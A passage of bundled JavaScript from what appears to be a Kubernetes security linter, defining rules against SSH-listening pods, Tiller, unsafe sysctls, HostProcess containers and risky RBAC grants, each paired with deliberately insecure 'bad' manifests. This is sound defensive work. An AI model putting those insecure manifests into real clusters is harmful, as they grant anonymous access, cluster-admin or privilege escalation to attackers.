    good: `
apiVersion: v1
kind: ServiceAccount
metadata:
  name: builder
`,
    on: 'resource',
    *check(resource) {
        if (resource.kind !== 'Secret' || resource.group !== '')
            return;
        const type = resource.at('type');
        if (type?.string === 'kubernetes.io/service-account-token') {
            yield { at: type, message: `Secret "${resource.name}" holds a service account token that never expires` };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/kubernetes-workload.js
var kubernetes_workload = __webpack_require__(4168);
;// CONCATENATED MODULE: ./lib/rules/k8s/ssh-port.js




/* harmony default export */ const k8s_ssh_port = ((0,rule/* defineRule */.Km)({
    id: 'k8s/ssh-port',
    severity: 'medium',
    threat: 'access',
    summary: 'A pod listens for SSH',
    why: 'A shell server in a container is a second way in, with keys and users of its own that no cluster policy sees.',
    instead: 'Remove it; use `kubectl exec` by a role that people get for an emergency only.',
    references: [attack('T1021.004'), kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices')],
    peers: ['kube-linter:ssh-port', 'kubescape:rule-can-ssh-to-pod-v1'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      ports:
        - containerPort: 22
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      ports:
        - containerPort: 8080
`,
    on: 'resource',
    *check(resource) {
        for (const { containers } of (0,kubernetes_workload/* workloadsOf */.m)(resource))
            for (const container of containers)
                for (const port of (0,yaml_values/* mapsIn */.nf)(container.at('ports'))) {
                    if (!isSsh(port, 'containerPort'))
                        continue;
                    const message = `container "${container.name}" listens for SSH on port 22`;
                    yield { at: port.at('containerPort') ?? port, subject: container.subject, message };
                }
        // A port need not be named in the pod to be open.
        if (resource.kind !== 'Service' || resource.group !== '' || resource.at('spec', 'selector') === undefined)
            return;
        for (const port of (0,yaml_values/* mapsIn */.nf)(resource.at('spec', 'ports'))) {
            const field = (0,yaml_values/* isUnset */.K$)(port.at('targetPort')) ? 'port' : 'targetPort';
            if (isSsh(port, field))
                yield { at: port.at(field) ?? port, message: `${resource.subject} leads to SSH, port 22 of its pods` };
        }
    },
}));
const isSsh = (port, field) => port.at(field)?.value === 22 && (port.at('protocol')?.string ?? 'TCP') === 'TCP';

;// CONCATENATED MODULE: ./lib/rules/k8s/tiller-deployed.js





const isLocal = ({ string }) => (0,needs/* mayMatch */.B7)(string, [['listen='], ['localhost:', '127.0.0.1:', '[::1]:']]) && /^--?listen=(?:localhost|127\.0\.0\.1|\[::1\]):/.test(string);
const isNamed = (node, form) => node?.string?.includes('tiller') === true && form.test(node.string);
/* harmony default export */ const tiller_deployed = ((0,rule/* defineRule */.Km)({
    id: 'k8s/tiller-deployed',
    severity: 'medium',
    threat: 'access',
    summary: 'Tiller, the server of Helm 2, is deployed',
    why: 'Tiller does what anybody who reaches its port asks it, mostly as cluster administrator, and has had no updates since 2020.',
    instead: 'Use Helm 3, which has no server.',
    references: [attack('T1210'), cwe(306), cwe(1104)],
    peers: ['trivy:KSV-0102', 'checkov:CKV_K8S_34', 'checkov:CKV_K8S_44', 'kics:tiller_is_deployed'],
    bad: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: tiller-deploy
spec:
  selector:
    matchLabels:
      app: helm
  template:
    metadata:
      labels:
        app: helm
    spec:
      containers:
        - name: main
          image: ghcr.io/helm/tiller:v2.17.0
`,
    good: `
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  selector:
    matchLabels:
      app: web
  template:
    metadata:
      labels:
        app: web
    spec:
      containers:
        - name: main
          image: registry.example/web:1.4
`,
    on: 'resource',
    *check(resource) {
        const pod = (0,kubernetes_pod/* podOf */.F)(resource.root, resource.group, resource.kind);
        if (pod === undefined && resource.kind !== 'Service')
            return;
        // Bound to its own loopback only Tiller's own pod reaches it.
        const containers = (0,yaml_values/* mapsIn */.nf)(pod?.spec.at('containers'));
        if (containers.some((container) => [...(0,yaml_values/* scalarsIn */.PX)(container.at('args')), ...(0,yaml_values/* scalarsIn */.PX)(container.at('command'))].some(isLocal)))
            return;
        const labels = [pod?.metadata?.at('labels'), resource.at('spec', 'selector'), resource.at('metadata', 'labels')];
        const named = [
            ...containers.map((container) => container.at('image')).filter((image) => isNamed(image, /(?:^|\/)tiller(?:[:@]|$)/)),
            ...[resource.at('metadata', 'name'), pod?.metadata?.at('name')].filter((name) => isNamed(name, /(?:^|-)tiller(?:-|$)/)),
            ...labels.map((label) => label?.at('name')).filter((name) => name?.string === 'tiller'),
            ...labels.map((label) => label?.at('app')).filter((app) => app?.string === 'helm'),
        ];
        const [first] = named;
        if (first !== undefined)
            yield { at: first, field: 'product', identity: '', message: `${resource.subject} is Tiller, the server of Helm 2` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/unsafe-sysctls.js



/** As of Kubernetes 1.37. */
const safe = new Set([
    'kernel.shm_rmid_forced',
    'net.ipv4.ip_local_port_range',
    'net.ipv4.ip_local_reserved_ports',
    'net.ipv4.ip_unprivileged_port_start',
    'net.ipv4.ping_group_range',
    'net.ipv4.tcp_fin_timeout',
    'net.ipv4.tcp_keepalive_intvl',
    'net.ipv4.tcp_keepalive_probes',
    'net.ipv4.tcp_keepalive_time',
    'net.ipv4.tcp_notsent_lowat',
    'net.ipv4.tcp_rmem',
    'net.ipv4.tcp_slow_start_after_idle',
    'net.ipv4.tcp_syncookies',
    'net.ipv4.tcp_wmem',
]);
/* harmony default export */ const unsafe_sysctls = ((0,rule/* defineRule */.Km)({
    id: 'k8s/unsafe-sysctls',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A pod sets kernel parameters that are not its own',
    why: 'A sysctl outside the safe set is not kept to the pod: it changes the node, or lets the pod harm it.',
    instead: 'Use the safe sysctls only; let the administrator of the nodes set the others there.',
    references: [pss.baseline('Sysctls'), kubernetes('tasks/administer-cluster/sysctl-cluster/', 'sysctls')],
    peers: ['trivy:KSV-0026', 'kube-linter:unsafe-sysctls', 'gatekeeper:forbidden-sysctls', 'kics:cluster_allows_unsafe_sysctls'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    sysctls:
      - name: kernel.msgmax
        value: "65536"
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    sysctls:
      - name: net.ipv4.ip_unprivileged_port_start
        value: "80"
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        for (const sysctl of (0,yaml_values/* mapsIn */.nf)(workload.at('securityContext', 'sysctls'))) {
            const name = sysctl.at('name');
            if (name?.kind !== 'scalar' || name.templated || safe.has(name.string.replaceAll('/', '.')))
                continue;
            yield { at: name, message: `${workload.subject} sets the unsafe sysctl ${name.string}` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/volume-types-restricted.js



const volume_types_restricted_allowed = new Set('configMap csi downwardAPI emptyDir ephemeral persistentVolumeClaim projected secret'.split(' '));
/* harmony default export */ const volume_types_restricted = ((0,rule/* defineRule */.Km)({
    id: 'k8s/volume-types-restricted',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A pod uses a volume type that the restricted level leaves out',
    why: 'Volumes beside the listed types reach the node or a storage system directly, past the claims that an administrator controls.',
    instead: 'Use a persistent volume claim, or one of the types that the restricted level lists.',
    references: [pss.restricted('Volume Types'), kubernetes('concepts/storage/volumes/', 'volumes')],
    peers: ['trivy:KSV-0028', 'gatekeeper:volumes', 'kyverno:restrict-volume-types'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      nfs:
        server: nfs.example.com
        path: /data
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: data
      emptyDir: {}
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        for (const volume of (0,yaml_values/* mapsIn */.nf)(workload.at('volumes'))) {
            for (const { key, value } of (0,yaml_values/* entriesOf */.Mc)(volume)) {
                if (key.string === 'name' || volume_types_restricted_allowed.has(key.string) || key.string.startsWith('$') || value.value === null)
                    continue;
                const at = (key.string === 'hostPath' ? value.at('path') : undefined) ?? key;
                yield { at, message: `volume "${volume.at('name')?.string ?? ''}" is of the type ${key.string}` };
            }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/whole-secret-mounted.js




/* harmony default export */ const whole_secret_mounted = ((0,rule/* defineRule */.Km)({
    id: 'k8s/whole-secret-mounted',
    severity: 'low',
    threat: 'secret',
    summary: 'A pod gets more of a Secret than it uses',
    why: 'Every key of the Secret lies in the pod as a file, those that were added for others too.',
    instead: 'List the keys that the program reads in `items`, and mount no Secret that no container uses.',
    references: [
        kubernetes('concepts/configuration/secret/#projection-of-secret-keys-to-specific-paths', 'projection of Secret keys'),
        kubernetes('concepts/security/secrets-good-practices/', 'good practices for Secrets'),
        cwe(522),
    ],
    peers: ['kubescape:workload-mounted-secrets'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: database
      secret:
        secretName: database
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: database
          mountPath: /etc/database
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: database
      secret:
        secretName: database
        items:
          - key: password
            path: password
  containers:
    - name: web
      image: registry.example/web:1.4
      volumeMounts:
        - name: database
          mountPath: /etc/database
`,
    on: 'workload',
    *check(workload) {
        const mounts = mountsOf(workload);
        for (const volume of (0,yaml_values/* mapsIn */.nf)(workload.at('volumes'))) {
            const volumeName = volume.at('name')?.string ?? '';
            const isUsed = workload.partial || mounts.has(volumeName);
            // A mount with a path below the volume shows that one key.
            const isWhole = mounts.get(volumeName)?.some(({ node }) => (0,yaml_values/* isUnset */.K$)(node.at('subPath')) && (0,yaml_values/* isUnset */.K$)(node.at('subPathExpr')));
            for (const { name, holder } of secretsIn(volume)) {
                const written = `Secret "${name.string ?? ''}"`;
                if (!isUsed)
                    yield { at: name, field: volumeName, message: `${workload.subject} has the ${written}, which no container mounts` };
                else if (!workload.partial && isWhole && (0,yaml_values/* isMissing */.b2)(holder, 'items')) {
                    yield { at: name, field: volumeName, message: `${workload.subject} mounts every key of the ${written}` };
                }
            }
        }
    },
}));
function* secretsIn(volume) {
    const own = volume.at('secret');
    const projected = (0,yaml_values/* mapsIn */.nf)(volume.at('projected', 'sources')).map((source) => source.at('secret'));
    for (const holder of [own, ...projected]) {
        const name = holder?.at('secretName') ?? holder?.at('name');
        if (holder !== undefined && name !== undefined)
            yield { name, holder };
    }
}

;// CONCATENATED MODULE: ./lib/rules/k8s/windows-host-process.js



/* harmony default export */ const windows_host_process = ((0,rule/* defineRule */.Km)({
    id: 'k8s/windows-host-process',
    severity: 'high',
    threat: 'runtime',
    summary: 'A Windows container runs as a process of its node',
    why: 'A HostProcess container has no isolation: it is a process of the node, with its file system and its network.',
    instead: 'Remove `hostProcess`; leave node administration to an agent in a namespace of its own.',
    references: [
        pss.baseline('HostProcess'),
        kubernetes('tasks/configure-pod-container/create-hostprocess-pod/', 'HostProcess pods'),
        attack('T1611'),
    ],
    peers: ['trivy:KSV-0103', 'gatekeeper:host-process', 'kyverno:disallow-host-process'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  os:
    name: windows
  hostNetwork: true
  securityContext:
    windowsOptions:
      hostProcess: true
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  os:
    name: windows
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        for (const value of securityValues(workload, 'windowsOptions', 'hostProcess')) {
            const { node, subject } = value;
            if (node.boolean !== true)
                continue;
            const edit = removeSecurity(workload, value, ['windowsOptions', 'hostProcess']);
            yield { at: node, subject, message: `${subject} runs as a process of the node`, fix: (0,rule/* unsafeFix */.ed)('Remove `hostProcess`', edit) };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/kubernetes-rbac.js
var kubernetes_rbac = __webpack_require__(1457);
;// CONCATENATED MODULE: ./lib/rules/rbac/admission-webhooks.js



const permission = {
    groups: ['admissionregistration.k8s.io'],
    resources: ['validatingwebhookconfigurations', 'mutatingwebhookconfigurations'],
    verbs: ['create', 'update', 'patch', 'delete', 'deletecollection'],
};
/* harmony default export */ const admission_webhooks = ((0,rule/* defineRule */.Km)({
    id: 'rbac/admission-webhooks',
    severity: 'high',
    threat: 'access',
    summary: 'A role may change admission webhooks',
    why: 'A mutating webhook sees and rewrites every object that is sent to the cluster, Secrets included; deleting a validating one switches a guard off.',
    instead: 'Leave webhook configurations to the cluster administrators, or name the one object in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#control-admission-webhooks', 'RBAC good practices, admission webhooks'),
        attack('T1546'),
        cwe(269),
    ],
    peers: ['trivy:KSV-0114', 'checkov:CKV_K8S_155', 'kubescape:rule-can-modify-admission-webhooks'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: [admissionregistration.k8s.io]
    resources: [mutatingwebhookconfigurations]
    verbs: [create, update]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: [admissionregistration.k8s.io]
    resources: [mutatingwebhookconfigurations]
    verbs: [get, list]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/anonymous-binding.js



/** Bound to everybody by Kubernetes itself: the version and health of the API server. */
const publicRoles = new Set(['system:public-info-viewer']);
/* harmony default export */ const anonymous_binding = ((0,rule/* defineRule */.Km)({
    id: 'rbac/anonymous-binding',
    severity: 'critical',
    threat: 'access',
    summary: 'A binding gives a role to everybody without a login',
    why: 'Requests without credentials get these permissions, from every network that reaches the API server.',
    instead: 'Bind a group or service account that authenticates.',
    references: [
        kubernetes('reference/access-authn-authz/authentication/#anonymous-requests', 'anonymous requests'),
        cwe(306),
        attack('T1190'),
    ],
    peers: ['trivy:KSV-0122', 'gatekeeper:disallowanonymous', 'kubescape:anonymous-access-enabled'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: system:unauthenticated
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: readers@example.com
`,
    on: 'roleBinding',
    *check(binding) {
        const role = binding.at('roleRef', 'name')?.string ?? '';
        if (publicRoles.has(role))
            return;
        for (const { kind, name, nameNode } of (0,kubernetes_rbac/* subjectsOf */.Z6)(binding)) {
            if (kind !== 'ServiceAccount' && (name === 'system:anonymous' || name === 'system:unauthenticated'))
                yield { at: nameNode, extent: [role], message: `${binding.subject} gives "${role}" to "${name}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/authenticated-binding.js



/** Bound to this group by Kubernetes itself. */
const defaultRoles = new Set(['system:basic-user', 'system:discovery', 'system:public-info-viewer']);
/* harmony default export */ const authenticated_binding = ((0,rule/* defineRule */.Km)({
    id: 'rbac/authenticated-binding',
    severity: 'high',
    threat: 'access',
    summary: 'A binding gives a role to everybody who can log in',
    why: 'The group holds every user and every service account of the cluster, of each namespace: any pod that is taken over gets these permissions.',
    instead: 'Bind the group or service account that needs them.',
    references: [
        kubernetes('reference/access-authn-authz/rbac/#default-roles-and-role-bindings', 'default roles and bindings'),
        cwe(269),
        attack('T1078.001'),
    ],
    peers: ['trivy:KSV-01011', 'kubescape:system-authenticated-allowed-to-take-over-cluster'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: system:authenticated
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: readers
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: reader
subjects:
  - apiGroup: rbac.authorization.k8s.io
    kind: Group
    name: readers@example.com
`,
    on: 'roleBinding',
    *check(binding) {
        const role = binding.at('roleRef', 'name')?.string ?? '';
        if (defaultRoles.has(role))
            return;
        for (const { kind, name, nameNode } of (0,kubernetes_rbac/* subjectsOf */.Z6)(binding)) {
            if (kind === 'Group' && (name === 'system:authenticated' || name === 'system:serviceaccounts'))
                yield { at: nameNode, extent: [role], message: `${binding.subject} gives "${role}" to "${name}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/cluster-admin-binding.js



/* harmony default export */ const cluster_admin_binding = ((0,rule/* defineRule */.Km)({
    id: 'rbac/cluster-admin-binding',
    severity: 'high',
    threat: 'access',
    summary: 'A binding gives the role cluster-admin',
    why: 'Whoever takes over the subject can read every Secret, run pods anywhere and change every policy of the cluster.',
    instead: 'Bind a role that lists the verbs and resources that the subject uses.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        cwe(269),
        attack('T1098.006'),
    ],
    peers: ['trivy:KSV-0111', 'kube-linter:cluster-admin-role-binding', 'kics:cluster_admin_role_binding_with_super_user_permissions'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: deployer
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: ServiceAccount
    name: deployer
    namespace: ci
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: deployer
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: deployer
subjects:
  - kind: ServiceAccount
    name: deployer
    namespace: ci
`,
    on: 'roleBinding',
    *check(binding) {
        const name = binding.at('roleRef', 'name');
        // A Role of that name has the rules that its author gave it.
        if (name?.string !== 'cluster-admin' || binding.at('roleRef', 'kind')?.string === 'Role')
            return;
        const extent = (0,kubernetes_rbac/* subjectsOf */.Z6)(binding).map((member) => `${member.kind} ${member.namespace ?? ''}/${member.name}`);
        yield { at: name, extent, message: `${binding.subject} gives the role cluster-admin` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/configmap-modify.js



const configmap_modify_permission = {
    groups: [''],
    resources: ['configmaps'],
    verbs: ['create', 'update', 'patch', 'delete', 'deletecollection'],
};
/* harmony default export */ const configmap_modify = ((0,rule/* defineRule */.Km)({
    id: 'rbac/configmap-modify',
    severity: 'low',
    strict: true,
    threat: 'access',
    summary: 'A role may change ConfigMaps',
    why: 'ConfigMaps hold what programs trust: in kube-system the cluster DNS and, on EKS, who is an administrator.',
    instead: 'Name the ConfigMap in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
        attack('T1565'),
    ],
    peers: ['trivy:KSV-0049', 'trivy:KSV-0115', 'kubescape:rule-can-update-configmap-v1'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [configmaps]
    verbs: [update]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [configmaps]
    verbs: [get]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, configmap_modify_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/csr-approve.js



const approval = {
    groups: ['certificates.k8s.io'],
    resources: ['certificatesigningrequests/approval'],
    verbs: ['update', 'patch', 'create'],
};
/* harmony default export */ const csr_approve = ((0,rule/* defineRule */.Km)({
    id: 'rbac/csr-approve',
    severity: 'high',
    threat: 'access',
    summary: 'A role may approve certificate requests',
    why: 'Whoever approves requests issues client certificates for any name, also for those of nodes and administrators, and they cannot be revoked.',
    instead: 'Leave approval to the controllers of the cluster; name the signer in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#csrs-and-certificate-issuing', 'RBAC good practices, certificate issuing'),
        cwe(269),
        attack('T1649'),
    ],
    peers: ['checkov:CKV_K8S_156', 'kubescape:rule-can-approve-cert-signing-request', 'kyverno:restrict-clusterrole-csr'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: approver
rules:
  - apiGroups: [certificates.k8s.io]
    resources: [certificatesigningrequests/approval]
    verbs: [update]
  - apiGroups: [certificates.k8s.io]
    resources: [signers]
    verbs: [approve]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: approver
rules:
  - apiGroups: [certificates.k8s.io]
    resources: [certificatesigningrequests]
    verbs: [get, list, watch]
`,
    on: 'role',
    *check(role) {
        // Both halves are needed; with the signer left out, another role of the subject may have it.
        const signers = (0,kubernetes_rbac/* policyRulesOf */.nm)(role).filter(({ resources }) => resources.some(({ string }) => string === 'signers'));
        if (signers.length > 0 && signers.every(({ resourceNames }) => resourceNames.length > 0 && resourceNames.every(isOneSigner)))
            return;
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, approval)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));
/** Not all of a domain, and not the signers of Kubernetes itself, whose certificates it trusts. */
const isOneSigner = ({ string }) => !string.endsWith('/*') && !string.startsWith('kubernetes.io/');

;// CONCATENATED MODULE: ./lib/rules/rbac/default-service-account-binding.js



/* harmony default export */ const default_service_account_binding = ((0,rule/* defineRule */.Km)({
    id: 'rbac/default-service-account-binding',
    severity: 'medium',
    threat: 'access',
    summary: 'A binding gives a role to a default service account',
    why: 'Every pod of the namespace that names no service account runs as `default`, and so has these permissions too.',
    instead: 'Create a service account for the one workload, and bind that.',
    references: [
        kubernetes('concepts/security/service-accounts/#default-service-accounts', 'default service accounts'),
        cwe(269),
        attack('T1078.001'),
    ],
    peers: ['checkov:CKV_K8S_42', 'kics:role_binding_to_default_service_account'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: readers
  namespace: shop
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: reader
subjects:
  - kind: ServiceAccount
    name: default
    namespace: shop
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: readers
  namespace: shop
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: Role
  name: reader
subjects:
  - kind: ServiceAccount
    name: reader
    namespace: shop
`,
    on: 'roleBinding',
    *check(binding) {
        for (const { kind, name, nameNode } of (0,kubernetes_rbac/* subjectsOf */.Z6)(binding)) {
            if (kind === 'ServiceAccount' && name === 'default')
                yield {
                    at: nameNode,
                    extent: [binding.at('roleRef', 'name')?.string ?? ''],
                    message: `${binding.subject} gives a role to the service account "default"`,
                };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/delete-events.js



const delete_events_permission = {
    groups: ['', 'events.k8s.io'],
    resources: ['events', 'pods/log'],
    verbs: ['delete', 'deletecollection'],
};
/* harmony default export */ const delete_events = ((0,rule/* defineRule */.Km)({
    id: 'rbac/delete-events',
    severity: 'medium',
    threat: 'access',
    summary: 'A role may delete events or logs',
    why: 'Events are the only trace that many attacks leave in a cluster.',
    instead: 'Let events expire by themselves.',
    references: [
        attack('T1070'),
        kubernetes('concepts/security/rbac-good-practices/#least-privilege', 'RBAC good practices, least privilege'),
    ],
    peers: ['trivy:KSV-0042', 'kubescape:rule-can-delete-k8s-events-v1'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [events]
    verbs: [delete]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: ['']
    resources: [events]
    verbs: [create, patch]
`,
    on: 'role',
    *check(role) {
        for (const { resource, verbs } of (0,kubernetes_rbac/* grantsOf */.Rr)(role, delete_events_permission)) {
            yield { at: resource, extent: (0,kubernetes_rbac/* stringsOf */.iw)(verbs), message: `${role.subject} may ${(0,kubernetes_rbac/* quoted */.TL)(verbs)} "${resource.string}"` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/rbac/escalate-bind.js



const group = 'rbac.authorization.k8s.io';
const bindings = ['rolebindings', 'clusterrolebindings'];
const objects = [...bindings, 'roles', 'clusterroles', '*'];
const handsOn = new Set(['escalate', 'bind', 'impersonate']);
/* harmony default export */ const escalate_bind = ((0,rule/* defineRule */.Km)({
    id: 'rbac/escalate-bind',
    severity: 'high',
    threat: 'access',
    summary: 'A role may change who is allowed what',
    why: 'The API server lets nobody hand on more than they have, unless they have these verbs: with `escalate` or `bind` the subject can give itself any role.',
    instead: 'Leave roles and bindings to the cluster administrators; let `bind` name the roles that it is for in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#escalate-verb', 'RBAC good practices, escalate verb'),
        kubernetes('reference/access-authn-authz/rbac/#privilege-escalation-prevention-and-bootstrapping', 'privilege escalation prevention'),
        cwe(269),
        attack('T1098.006'),
    ],
    peers: ['trivy:KSV-0050', 'trivy:KSV-0051', 'checkov:CKV_K8S_157', 'checkov:CKV_K8S_158', 'kics:rbac_roles_allow_privilege_escalation'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    verbs: [bind, escalate]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: deployer
rules:
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles]
    verbs: [get, list]
`,
    on: 'role',
    *check(role) {
        const rules = (0,kubernetes_rbac/* policyRulesOf */.nm)(role).filter((rule) => (0,kubernetes_rbac/* coversGroup */.Ut)(rule, group) && touches(rule, objects));
        const binds = rules.some((rule) => touches(rule, bindings) && allows(rule, 'create'));
        for (const rule of rules) {
            const names = rule.resourceNames.map(({ string }) => string);
            // A literal name to the API server, but not to whoever wrote it beside the right to make bindings.
            if (names.length > 0 && !(binds && names.includes('*')))
                continue;
            for (const verb of rule.verbs) {
                if (handsOn.has(verb.string))
                    yield { at: verb, extent: (0,kubernetes_rbac/* stringsOf */.iw)(rule.resources), message: `${role.subject} may "${verb.string}" ${(0,kubernetes_rbac/* quoted */.TL)(rule.resources)}` };
            }
            const named = rule.resources.find(({ string }) => string !== '*' && objects.includes(string));
            if (named === undefined)
                continue;
            if (rule.verbs.some(({ string }) => string === '*'))
                yield { at: named, message: `${role.subject} may do everything to "${named.string}"` };
            else if (touches(rule, bindings) && allows(rule, 'get') && (allows(rule, 'patch') || allows(rule, 'update'))) {
                yield { at: named, severity: 'medium', message: `${role.subject} may add others to "${named.string}"` };
            }
        }
    },
}));
const touches = (rule, resources) => rule.resources.some(({ string }) => resources.includes(string));
const allows = (rule, verb) => rule.verbs.some(({ string }) => string === verb);

;// CONCATENATED MODULE: ./lib/rules/rbac/impersonate.js



const identities = /^(?:users|groups|serviceaccounts|uids|userextras\/.+|\*)$/;
/* harmony default export */ const impersonate = ((0,rule/* defineRule */.Km)({
    id: 'rbac/impersonate',
    severity: 'high',
    threat: 'access',
    supersedes: ['rbac/escalate-bind'],
    summary: 'A role may act as other users',
    why: 'Whoever may impersonate any user or group is every user, the administrators included.',
    instead: 'Name the one identity that is needed in `resourceNames`.',
    references: [
        kubernetes('concepts/security/rbac-good-practices/#impersonate-verb', 'RBAC good practices, impersonate verb'),
        cwe(269),
        attack('T1134'),
    ],
    peers: ['trivy:KSV-0043', 'checkov:CKV2_K8S_3', 'kics:rbac_roles_with_impersonate_permission'],
    bad: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: support
rules:
  - apiGroups: ['']
    resources: [users, groups]
    verbs: [impersonate]
`,
    good: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: support
rules:
  - apiGroups: ['']
    resources: [users]
    resourceNames: [jane@example.com]
    verbs: [impersonate]
`,
    on: 'role',
    *check(role) {
        for (const rule of (0,kubernetes_rbac/* policyRulesOf */.nm)(role)) {
            if (rule.resourceNames.length > 0 || !((0,kubernetes_rbac/* coversGroup */.Ut)(rule, '') || (0,kubernetes_rbac/* coversGroup */.Ut)(rule, 'authentication.k8s.io')))
                continue;
